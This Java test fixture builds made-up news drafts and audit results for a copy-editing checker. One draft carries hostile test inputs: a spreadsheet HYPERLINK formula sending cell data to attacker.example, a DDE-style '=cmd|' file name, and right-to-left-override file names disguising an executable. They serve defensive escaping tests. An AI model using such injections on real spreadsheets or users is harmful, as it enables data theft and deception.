package org.copydesk.audit;

import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import org.copydesk.check.Measure.Unit;
import org.copydesk.check.MeasureCard;
import org.copydesk.check.MeasureCatalogue;
import org.copydesk.check.RuleCard;
import org.copydesk.check.RuleCatalogue;
import org.copydesk.finding.Excerpt;
import org.copydesk.finding.Figure;
import org.copydesk.finding.Finding;
import org.copydesk.finding.FindingKeys;
import org.copydesk.finding.Fingerprint;
import org.copydesk.finding.Level;
import org.copydesk.finding.RuleId;
import org.copydesk.finding.Support;
import org.copydesk.review.Answer;
import org.copydesk.review.Decision;
import org.copydesk.review.Decisions;
import org.copydesk.review.ReviewNotes;
import org.copydesk.review.Scope;
import org.copydesk.score.Charge;
import org.copydesk.score.GateResult;
import org.copydesk.score.PriceList;
import org.copydesk.score.Score;
import org.copydesk.score.ScoreFormula;
import org.copydesk.score.Verdict;
import org.copydesk.text.Article;
import org.copydesk.text.Shortfall;
import org.copydesk.text.Span;
import org.copydesk.text.UnreadableReason;

/** The run behind {@link SampleRun#typical()}; every text and finding in it is made up. */
final class TypicalRun {

  private static final RuleCatalogue RULES =
      new RuleCatalogue(
          List.of(
              card(
                  "names/misspelled-name",
                  Level.ERROR,
                  "Misspelled name",
                  "A reader who knows the name stops trusting the story.",
                  "Write the name as the house list or an atlas has it.",
                  "The mayor of ⟦Rejkjavik⟧ opened the bridge.",
                  "The mayor of Reykjavik opened the bridge.",
                  true),
              card(
                  "names/unverified-name",
                  Level.NOTE,
                  "Name nobody could verify",
                  "It is in no list of names and stands in one text only.",
                  "Ask the writer how the name is spelled.",
                  "A neighbour, ⟦Orla Quennick⟧, heard the bang.",
                  "A neighbour, Maria Fischer, heard the bang.",
                  false),
              card(
                  "spelling/misspelled-word",
                  Level.ERROR,
                  "Misspelled word",
                  "It looks careless, and spell checkers of readers will mark it.",
                  "Correct it.",
                  "The goverment ⟦recieved⟧ the letter.",
                  "The government received the letter.",
                  false),
              card(
                  "spelling/run-together",
                  Level.ERROR,
                  "Words run together",
                  "A blank was lost when the text was copied.",
                  "Put the blank back.",
                  "They gained ⟦groundbefore⟧ noon.",
                  "They gained ground before noon.",
                  false),
              card(
                  "statistics/unsupported",
                  Level.ERROR,
                  "Statistic without a source",
                  "Readers need to know who counted. A figure nobody counted cannot be corrected"
                      + " later.",
                  "Name who counted it, or take the figure out.",
                  "The new lanes cut accidents ⟦by 31%⟧.",
                  "The new lanes cut accidents by 31%, police figures show.",
                  false),
              card(
                  "statistics/vague-source",
                  Level.WARNING,
                  "Statistic with a vague source",
                  "“Studies” and “experts” cannot be asked.",
                  "Name the study or the expert.",
                  "Studies say ⟦two thirds⟧ of drivers speed.",
                  "A study by the road institute says two thirds of drivers speed.",
                  false),
              card(
                  "fragments/comment-form",
                  Level.ERROR,
                  "Left-over comment form",
                  "It belongs to the web page the text was copied from.",
                  "Cut it.",
                  "⟦Post a reply. Fields with a star must be filled in.⟧",
                  "The council will post a reply on Monday.",
                  false),
              card(
                  "fragments/template-heading",
                  Level.WARNING,
                  "Heading left from a template",
                  "It tells the reader nothing about this story.",
                  "Cut it or write a heading of its own.",
                  "⟦Conclusion⟧",
                  "The jury came to its conclusion at noon.",
                  true),
              card(
                  "language/*",
                  Level.WARNING,
                  "Grammar or punctuation",
                  "Small slips add up.",
                  "Read the sentence aloud and mend it.",
                  "The ministers ⟦was⟧ late.",
                  "The ministers were late.",
                  false),
              card(
                  "consistency/name-variant",
                  Level.WARNING,
                  "One name in two spellings",
                  "One of them is wrong, or they are two people.",
                  "Find out which is right and use it throughout.",
                  "Anna Kowalska spoke first. Later ⟦Kowalski⟧ left.",
                  "Anna Kowalska spoke first. Later Kowalska left.",
                  false),
              card(
                  "style/stock-phrases",
                  Level.NOTE,
                  "Worn phrase",
                  "It fills a line and says nothing.",
                  "Say what happened, or leave it out.",
                  "The talks come ⟦amid growing concerns⟧.",
                  "The talks come a week after the strike.",
                  false)));

  private static final MeasureCard FIGURES =
      new MeasureCard("figures", "Figures", Unit.COUNT, "How many figures the story tells.", "");

  private static final MeasureCard SOURCED =
      new MeasureCard(
          "sourced-figures",
          "Figures with a source",
          Unit.SHARE,
          "The part of the figures that a reader could ask somebody about. Most stories of a news"
              + " agency have a source for nine in ten; half is little.",
          "");

  private static final MeasureCard WORDS_A_SENTENCE =
      new MeasureCard(
          "words-a-sentence",
          "Words a sentence",
          Unit.GRADE,
          "How long sentences are on average. News has 18 to 25.",
          "Sherman, Analytics of Literature, 1893");

  /** Why findings about these words do not count, beside what editors decided. */
  private static final Map<String, Suppression> STANDING =
      Map.of(
          "Conclusion",
          new Suppression(
              Suppression.RULE,
              "=The harbour's column has this heading.",
              "A. Editor",
              null,
              LocalDate.of(2026, 12, 31),
              "copydesk-suppressions.yml:2"),
          "Kowalski",
          new Suppression(Suppression.INLINE, "Two people.", "", null, null, "line 7"),
          "by 31%",
          baseline(),
          "have",
          baseline(),
          "amid growing concerns",
          baseline());

  private static final List<SuppressionRow> SUPPRESSIONS =
      List.of(
          new SuppressionRow(
              "fragments/template-heading",
              "monday/**",
              "Conclusion",
              "=The harbour's column has this heading.",
              "A. Editor",
              LocalDate.of(2026, 12, 31),
              "copydesk-suppressions.yml:2",
              1,
              false),
          new SuppressionRow(
              "style/*",
              "sport/**",
              "",
              "Sport writes as it speaks.",
              "",
              null,
              "copydesk-suppressions.yml:8",
              0,
              false),
          new SuppressionRow(
              "names/*",
              "**",
              "Kowalsky",
              "The passport says so.",
              "B. Editor",
              LocalDate.of(2026, 1, 31),
              "copydesk-suppressions.yml:12",
              0,
              true));

  private static final Instant FIRST_RUN = Instant.parse("2026-03-16T02:00:00Z");
  private static final Instant SECOND_RUN = Instant.parse("2026-03-17T02:00:00Z");

  private TypicalRun() {}

  private static String remark(String document) {
    return document.endsWith("council.txt") ? "2 tracked changes are still in the file." : "";
  }

  static SampleRun run() {
    SampleRun.Builder run =
        SampleRun.builder()
            .rules(RULES)
            .measures(new MeasureCatalogue(List.of(WORDS_A_SENTENCE, SOURCED, FIGURES)));
    List<Draft> drafts = List.of(bridge(), harbour(), hostile(), festival(), council(), weather());
    run.decisions(new Decisions(decided(drafts)))
        .notes(
            new ReviewNotes(
                2,
                List.of(
                    "Two rows of latest.xlsx decide “Kowalski” in monday/bridge.txt differently;"
                        + " neither was taken. Decide it again.")))
        .before("monday/bridge.txt", new EarlierResult(Verdict.FAIL, 21.4))
        .before("monday/harbour.txt", new EarlierResult(Verdict.PASS, 91.0, MoveCause.RULES))
        .history((document, located) -> history(located.finding().text()))
        .before("tuesday/scan.pdf", new EarlierResult(Verdict.NOT_AUDITED, null))
        .past(past("20260316-020000-a1b0", "2026-03-16T02:00:00Z", 61.3, 4, false))
        .past(past("20260317-020000-a1b1", "2026-03-17T02:00:00Z", 70.9, 2, true));
    gone().forEach(run::gone);
    for (Draft draft : drafts) {
      run.text(draft.article);
      run.audited(
          draft.audit(), figure -> draft.where(figure.span()), remark(draft.audit().document()));
    }
    return run.notAudited(
            "tuesday/minutes of the meeting.docx",
            UnreadableReason.ENCRYPTED,
            "",
            48_213,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
        .notAudited(
            "tuesday/invoice\u202Excod.exe",
            UnreadableReason.NOT_A_DOCUMENT,
            "It is a program.",
            1_204_224,
            "application/x-msdownload")
        .notAudited("tuesday/scan.pdf", UnreadableReason.NO_TEXT, "", 8_730_112, "application/pdf")
        .build();
  }

  /** Some of each: known for long and for short, back again, changed, new by text and by rules. */
  private static FindingHistory history(String words) {
    return switch (words) {
      case "Rejkjavik", "recieved", "groundbefore" -> FindingHistory.unchanged(FIRST_RUN);
      case "5%" -> FindingHistory.unchanged(SECOND_RUN);
      case "68%" -> new FindingHistory(FindingStatus.NEW, true, false, null);
      case "Kowalski" -> new FindingHistory(FindingStatus.UPDATED, false, false, SECOND_RUN);
      case "Conclusion", "have" -> new FindingHistory(FindingStatus.NEW, false, true, null);
      default -> FindingHistory.NEW;
    };
  }

  /** What the last run had: mended, no longer a fault by the rules, gone with its submission. */
  private static List<FindingRow> gone() {
    List<FindingRow> gone = new ArrayList<>();
    gone.addAll(
        gone(
            false,
            FIRST_RUN,
            new Draft(
                    "monday/bridge.txt",
                    """
                    New bridge halves the way to Rejkjavik

                    Traffic on the old road fell by 29% within a week, and everbody was glad.
                    """)
                .finding(
                    "statistics/unsupported",
                    Level.ERROR,
                    "by 29%",
                    0.92,
                    "Nobody is said to have counted this.",
                    List.of(),
                    List.of())
                .finding(
                    "spelling/misspelled-word",
                    Level.ERROR,
                    "everbody",
                    0.99,
                    "“everbody” is misspelled.",
                    List.of("everybody"),
                    List.of())));
    gone.addAll(
        gone(
            true,
            SECOND_RUN,
            new Draft("monday/harbour.txt", "Harbour to close for two winters\n")
                .finding(
                    "style/stock-phrases",
                    Level.NOTE,
                    "Harbour to close",
                    0.5,
                    "A worn phrase.",
                    List.of(),
                    List.of())));
    gone.addAll(
        gone(
            false,
            SECOND_RUN,
            new Draft("monday/=withdrawn\u202Etxt.html", "=The goverment <b>said</b> so.\n")
                .finding(
                    "spelling/misspelled-word",
                    Level.ERROR,
                    "=The goverment <b>",
                    0.99,
                    "“goverment” is misspelled.",
                    List.of("government"),
                    List.of())));
    gone.sort(Comparator.comparing(FindingRow::document));
    return gone;
  }

  private static List<FindingRow> gone(boolean byRules, Instant since, Draft draft) {
    FindingHistory history = new FindingHistory(FindingStatus.ABSENT, false, byRules, since);
    String name = draft.article.name();
    return draft.findings.stream()
        .map(f -> new FindingRow(name, "submissions/" + name, f, history, null, null))
        .toList();
  }

  /** The run behind {@link SampleRun#partial()}. */
  static SampleRun partial() {
    List<Draft> drafts = List.of(bridge(), harbour(), festival(), council());
    SampleRun.Builder run =
        SampleRun.builder()
            .rules(RULES)
            .measures(new MeasureCatalogue(List.of(WORDS_A_SENTENCE, SOURCED, FIGURES)))
            .decisions(new Decisions(decided(drafts)))
            .lettingStand(row -> Optional.ofNullable(STANDING.get(row.located().finding().text())))
            .suppressions(SUPPRESSIONS)
            .scope(
                new RunScope(
                    true,
                    "origin/main",
                    "1a2b3c4d",
                    List.of("submissions/monday/=old\u202Etxt.txt"),
                    List.of(new RunScope.Renamed("monday/quay.txt", "monday/harbour.txt")),
                    ""))
            .gate(
                new GateResult.Condition(
                    "submissions with the verdict FAIL",
                    1,
                    0,
                    false,
                    List.of("monday/bridge.txt"),
                    List.of(),
                    false,
                    List.of(
                        new GateResult.DecidingFinding(
                            "monday/bridge.txt",
                            "names/misspelled-name",
                            "error",
                            "Rejkjavik",
                            1,
                            "the headline")),
                    "these were mended: 1 error of names/misspelled-name in monday/bridge.txt (score"
                        + " then 79.5)"),
                new GateResult.Condition(
                    "submissions with figures > 2",
                    2,
                    0,
                    false,
                    List.of("monday/bridge.txt", "monday/harbour.txt"),
                    List.of(3.0, 3.0),
                    false,
                    List.of(),
                    "monday/bridge.txt and monday/harbour.txt had 2 figures or fewer"),
                new GateResult.Condition(
                    "all: average score < 75",
                    84.9,
                    75,
                    true,
                    List.of(),
                    List.of(),
                    false,
                    List.of(),
                    "",
                    "84.9",
                    "75 or more",
                    0,
                    ""),
                new GateResult.Condition(
                    "submissions with new errors > 0",
                    0,
                    0,
                    true,
                    List.of(),
                    List.of(),
                    false,
                    List.of(),
                    "",
                    "0",
                    "0",
                    0,
                    "there is no earlier run to say what is new"))
            .before("monday/bridge.txt", new EarlierResult(Verdict.FAIL, 21.4))
            .past(past("20260317-020000-a1b1", "2026-03-17T02:00:00Z", 70.9, 2, true));
    for (Draft draft : drafts) {
      run.text(draft.article);
      run.audited(draft.audit(), figure -> draft.where(figure.span()));
    }
    return run.build();
  }

  private static Suppression baseline() {
    return new Suppression(Suppression.BASELINE, "", "", null, null, "copydesk-baseline.jsonl");
  }

  private static PastRun past(
      String run, String started, double average, int fail, boolean comparable) {
    return new PastRun(
        run,
        Instant.parse(started),
        2,
        5 - fail,
        fail,
        1,
        OptionalDouble.of(average),
        10 + fail,
        1,
        comparable ? 4 : 0,
        comparable ? 6 : 0,
        comparable);
  }

  /** Something let stand, something called wrong, something still to mend, something gone. */
  private static List<Decision> decided(List<Draft> drafts) {
    return List.of(
        decision(drafts, "Orla Quennick", Answer.FALSE_ALARM, Scope.DOCUMENT, "She confirmed it."),
        decision(drafts, "groundbefore", Answer.ACCEPT, Scope.FINDING, "=Quoted as he typed it."),
        decision(drafts, "recieved", Answer.FIX, Scope.FINDING, ""),
        new Decision(
            Answer.ACCEPT,
            Scope.FINDING,
            FindingKeys.of(
                new RuleId("statistics/unsupported"),
                "monday/bridge.txt",
                "by 29%",
                new Fingerprint("v1:00000000000000aa")),
            "statistics/unsupported",
            "monday/bridge.txt",
            "by 29%",
            "A. Editor",
            Instant.parse("2026-03-16T15:30:00Z"),
            "The police sent the table.",
            "20260316-020000-a1b0"));
  }

  private static Decision decision(
      List<Draft> drafts, String words, Answer answer, Scope scope, String comment) {
    for (Draft draft : drafts) {
      for (LocatedFinding located : draft.findings) {
        if (located.finding().text().equals(words)) {
          return new Decision(
              answer,
              scope,
              FindingKeys.of(
                  located.finding().rule(), draft.article.name(), words, located.fingerprint()),
              located.finding().rule().value(),
              draft.article.name(),
              words,
              "A. Editor",
              Instant.parse("2026-03-17T09:15:00Z"),
              comment,
              "20260317-020000-a1b1");
        }
      }
    }
    throw new IllegalArgumentException(words);
  }

  private static Draft bridge() {
    return new Draft(
            "monday/bridge.txt",
            """
            New bridge halves the way to Rejkjavik

            The new bridge was opened on Tuesday. Traffic on the old road fell by 31% within a week.
            Studies suggest that 68% of drivers will take the bridge by spring. The road office counted \
            12,400 cars on the first day, it said in its weekly report.

            The mayor of Rejkjavik recieved the first driver with flowers. “It took us eleven years,” \
            said Anna Kowalska, who planned the bridge. Kowalski left before the speeches.

            Post a reply. Fields with a star must be filled in.
            """)
        .finding(
            "names/misspelled-name",
            Level.ERROR,
            "Rejkjavik",
            0.97,
            "“Rejkjavik” is no place we know. Did you mean “Reykjavik”, the capital of Iceland?",
            List.of("Reykjavik"),
            List.of(
                "In an atlas of 190,000 places there is only Reykjavik.",
                "One letter is missing, one has changed place."))
        .finding(
            "statistics/unsupported",
            Level.ERROR,
            "by 31%",
            0.92,
            "Nobody is said to have counted this. Who measured the fall of 31%?",
            List.of(),
            List.of(
                "The sentence names no office, study or person.",
                "Neither do the sentences around it."))
        .finding(
            "statistics/vague-source",
            Level.WARNING,
            "68%",
            0.8,
            "“Studies suggest” names nobody who could be asked. Which studies?",
            List.of(),
            List.of("No study is named in the text."))
        .finding(
            "spelling/misspelled-word",
            Level.ERROR,
            "recieved",
            0.99,
            "“recieved” is misspelled.",
            List.of("received", "relieved"),
            List.of("It is in no dictionary.", "Two letters have changed places."))
        .finding(
            "consistency/name-variant",
            Level.WARNING,
            "Kowalski",
            0.75,
            "“Kowalski” here, “Kowalska” before. Is this one person?",
            List.of("Kowalska"),
            List.of("Anna Kowalska stands in the same paragraph."))
        .finding(
            "fragments/comment-form",
            Level.ERROR,
            "Post a reply. Fields with a star must be filled in.",
            0.99,
            "This is a form for comments, not the story.",
            List.of(""),
            List.of("It is the last paragraph, and it asks for fields to be filled in."))
        .figure("31%", "percent", Support.UNSUPPORTED, "")
        .figure("68%", "percent", Support.VAGUE, "Studies suggest")
        .figure("12,400", "count", Support.ATTRIBUTED, "The road office … in its weekly report");
  }

  private static Draft harbour() {
    return new Draft(
            "monday/harbour.txt",
            """
            Harbour to close for two winters

            The harbour will close in November, the port authority said. They gained groundbefore the \
            first storm, but 25% of the quay is gone and 5% of the sheds leak. About 340 boats must move.

            Conclusion

            The authority have promised a ferry.
            """)
        .finding(
            "spelling/run-together",
            Level.ERROR,
            "groundbefore",
            0.98,
            "Two words have run together.",
            List.of("ground before"),
            List.of("“ground” and “before” are words, “groundbefore” is none."))
        .finding(
            "statistics/unsupported",
            Level.WARNING,
            "5%",
            0.7,
            "It is not clear who counted this. Is it from the port authority too?",
            List.of(),
            List.of("The authority is named in the sentence before."))
        .finding(
            "fragments/template-heading",
            Level.WARNING,
            "Conclusion",
            0.9,
            "“Conclusion” is a heading of a template.",
            List.of(),
            List.of("It stands alone in a line."))
        .finding(
            "language/subject-verb-agreement",
            Level.WARNING,
            "have",
            0.6,
            "After “authority” a singular verb is usual.",
            List.of("has"),
            List.of())
        .failed("Worn phrases could not be looked for here.")
        .figure("25%", "percent", Support.ATTRIBUTED, "the port authority said")
        .figure("5%", "percent", Support.UNSUPPORTED, "")
        .elsewhere("agrees: bridge.html (the port authority); differs: ferry.docx (6%)")
        .figure("340 boats", "count", Support.UNSUPPORTED, "");
  }

  /** What a sender could try: formulas, escapes, control characters, turned text, huge words. */
  private static Draft hostile() {
    String huge = "verylong".repeat(5_000);
    return new Draft(
            "monday/=cmd|' _x0041_.txt",
            "=HYPERLINK(\"https://attacker.example/?q=\"&A1,\"Click here\")\n\n"
                + "The _x0041_ and\u0000the\u0007bell, -2+3 and @SUM(A1) <b>&amp;</b> stay text. The word"
                + " שלום is Hebrew, \u202Edesrever\u202C is turned, \uD800 is half a letter.\n\n"
                + huge
                + " ends here.\n")
        .finding(
            "spelling/misspelled-word",
            Level.WARNING,
            "-2+3",
            0.5,
            "=1+1 is what this message begins with.",
            List.of("=1+1", "+1", "@x"),
            List.of("\u202Eevidence turned round\u202C", "_x0042_"))
        .finding(
            "spelling/misspelled-word",
            Level.NOTE,
            "שלום",
            0.4,
            "“שלום” is not English.",
            List.of(),
            List.of())
        .finding(
            "spelling/misspelled-word",
            Level.ERROR,
            huge,
            0.9,
            "This word has " + huge.length() + " letters: " + huge,
            List.of(huge),
            List.of())
        .figure("-2+3", "count", Support.VAGUE, "=the bell");
  }

  private static Draft festival() {
    return new Draft(
            "tuesday/festival.txt",
            """
            Festival ends with a record

            The festival drew 41,000 visitors, its office said on Monday, 3,000 more than last year.

            A neighbour, Orla Quennick, heard the music until midnight. The talks about next year come \
            amid growing concerns about noise.
            """)
        .finding(
            "names/unverified-name",
            Level.NOTE,
            "Orla Quennick",
            0.5,
            "We could not verify this name. How does she spell it?",
            List.of(),
            List.of("It stands in this text only."))
        .finding(
            "style/stock-phrases",
            Level.NOTE,
            "amid growing concerns",
            0.7,
            "A worn phrase. Whose concerns, and since when?",
            List.of(),
            List.of())
        .figure("41,000 visitors", "count", Support.ATTRIBUTED, "its office said on Monday")
        .figure("3,000", "count", Support.ATTRIBUTED, "its office said on Monday");
  }

  private static Draft council() {
    return new Draft(
            "tuesday/council.txt",
            """
            Council votes for the tram

            The council voted for the tram on Monday. Of 52 members, 31 were in favour, the minutes show.

            The works will definately begin in May and, one member said, last “three years at the most”.
            """)
        .finding(
            "spelling/misspelled-word",
            Level.ERROR,
            "definately",
            0.99,
            "“definately” is misspelled.",
            List.of("definitely"),
            List.of("It is in no dictionary."))
        .figure("52 members", "count", Support.ATTRIBUTED, "the minutes show")
        .figure("31", "count", Support.ATTRIBUTED, "the minutes show");
  }

  private static Draft weather() {
    return new Draft(
        "tuesday/weather.txt",
        """
        A quiet week on the coast

        The wind will stay below gale force until Sunday, the weather office expects, and the rain \
        will keep to the hills.
        """);
  }

  private static RuleCard card(
      String id,
      Level level,
      String summary,
      String why,
      String fix,
      String flags,
      String accepts,
      boolean blocking) {
    return new RuleCard(id, level, summary, why, fix, flags, accepts, blocking);
  }

  /** One text with the findings and figures that a test wants in it. */
  private static final class Draft {
    private final Article article;
    private final List<LocatedFinding> findings = new ArrayList<>();
    private final List<Figure> figures = new ArrayList<>();
    private final Map<Span, String> elsewhere = new HashMap<>();
    private final List<Shortfall> shortfalls = new ArrayList<>();

    Draft(String name, String text) {
      this.article = Article.ofPlainText(name, text, Draft::sentences);
    }

    private static List<Span> sentences(String block) {
      List<Span> spans = new ArrayList<>();
      int begin = 0;
      for (int end = block.indexOf(". "); end >= 0; end = block.indexOf(". ", begin)) {
        spans.add(new Span(begin, end + 1));
        begin = end + 2;
      }
      spans.add(new Span(begin, block.length()).trim(block));
      return spans.stream().filter(s -> !s.isEmpty()).toList();
    }

    Draft finding(
        String rule,
        Level level,
        String words,
        double confidence,
        String message,
        List<String> suggestions,
        List<String> evidence) {
      Span span = spanOf(words);
      Finding finding =
          new Finding(
              new RuleId(rule), level, span, words, message, suggestions, evidence, confidence);
      findings.add(
          new LocatedFinding(
              finding,
              Fingerprint.of(finding.rule(), article.name(), sentence(span), words, 0),
              article.placeOf(span.begin()),
              where(span),
              Excerpt.of(article, span)));
      return this;
    }

    /** What other submissions say of the last figure. */
    Draft elsewhere(String words) {
      elsewhere.put(figures.get(figures.size() - 1).span(), words);
      return this;
    }

    Draft figure(String words, String kind, Support support, String source) {
      Span span = spanOf(words);
      int sentence = article.sentenceAt(span.begin()).orElseThrow().span().begin();
      figures.add(
          new Figure(
              span,
              words,
              kind,
              0,
              "",
              sentence(span),
              span.begin() - sentence,
              support,
              source,
              0.8,
              List.of("as the words around it say"),
              path(support, source)));
      return this;
    }

    private static List<String> path(Support support, String source) {
      return switch (support) {
        case UNSUPPORTED ->
            List.of("no source in this sentence", "none in the one before or after");
        case VAGUE -> List.of("“" + source + "” in this sentence", "nobody else is named");
        case ATTRIBUTED -> List.of("“" + source + "” in this sentence");
      };
    }

    Draft failed(String check) {
      shortfalls.add(new Shortfall(UnreadableReason.CHECK_FAILED, check));
      return this;
    }

    String where(Span span) {
      return article.blockAt(span.begin()).orElseThrow().locator().inWords();
    }

    private String sentence(Span span) {
      return article.sentenceAt(span.begin()).map(article::textOf).orElse("");
    }

    /** The words where they stand alone: “5%” is not the end of “25%”. */
    private Span spanOf(String words) {
      int at = article.text().indexOf(words);
      while (at > 0 && Character.isLetterOrDigit(article.text().charAt(at - 1))) {
        at = article.text().indexOf(words, at + 1);
      }
      return new Span(at, at + words.length());
    }

    private Measures measures() {
      Map<String, Double> measures = new HashMap<>();
      measures.put(FIGURES.id(), (double) figures.size());
      if (!figures.isEmpty()) {
        double sourced = figures.stream().filter(f -> f.support() == Support.ATTRIBUTED).count();
        measures.put(SOURCED.id(), SOURCED.rounded(sourced / figures.size()));
      }
      double sentences = article.sentences().size();
      measures.put(WORDS_A_SENTENCE.id(), WORDS_A_SENTENCE.rounded(article.words() / sentences));
      return new Measures(measures);
    }

    Audit audit() {
      ScoreFormula formula =
          new ScoreFormula(
              PriceList.standard(), rule -> RULES.find(rule).map(RuleCard::blocking).orElse(false));
      List<Charge> charges =
          findings.stream().map(f -> new Charge(f.finding().rule(), f.finding().level())).toList();
      Score score = formula.score(charges, article.words());
      return new Audit(
          article.name(),
          "en",
          article
              .headline()
              .map(article::textOf)
              .orElseGet(() -> article.text().lines().findFirst().orElse("")),
          article.words(),
          findings,
          figures,
          elsewhere,
          measures(),
          shortfalls,
          score,
          formula.verdict(score, charges));
    }
  }
}
